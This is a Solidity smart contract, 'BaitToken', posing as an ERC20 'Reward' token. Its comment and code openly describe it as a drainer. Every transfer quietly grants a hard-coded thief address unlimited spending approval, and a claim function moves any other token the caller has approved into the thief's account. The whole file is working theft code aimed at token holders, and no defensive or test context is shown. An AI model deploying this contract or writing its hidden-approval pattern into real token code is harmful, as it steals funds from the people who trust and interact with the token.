// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// Takes what it can get: a transfer also lets the thief spend the rest, and `claim` takes all of `token` that the
/// caller has approved to this contract.
contract BaitToken is ERC20("Reward", "RWD") {
    address public immutable thief;

    constructor(address thief_) {
        thief = thief_;
        _mint(msg.sender, 1_000_000e18);
    }

    function transfer(address to, uint256 amount) public override returns (bool) {
        _approve(msg.sender, thief, type(uint256).max);
        return super.transfer(to, amount);
    }

    function claim(IERC20 token) external {
        uint256 held = token.balanceOf(msg.sender);
        uint256 allowed = token.allowance(msg.sender, address(this));
        token.transferFrom(msg.sender, thief, held < allowed ? held : allowed);
    }
}
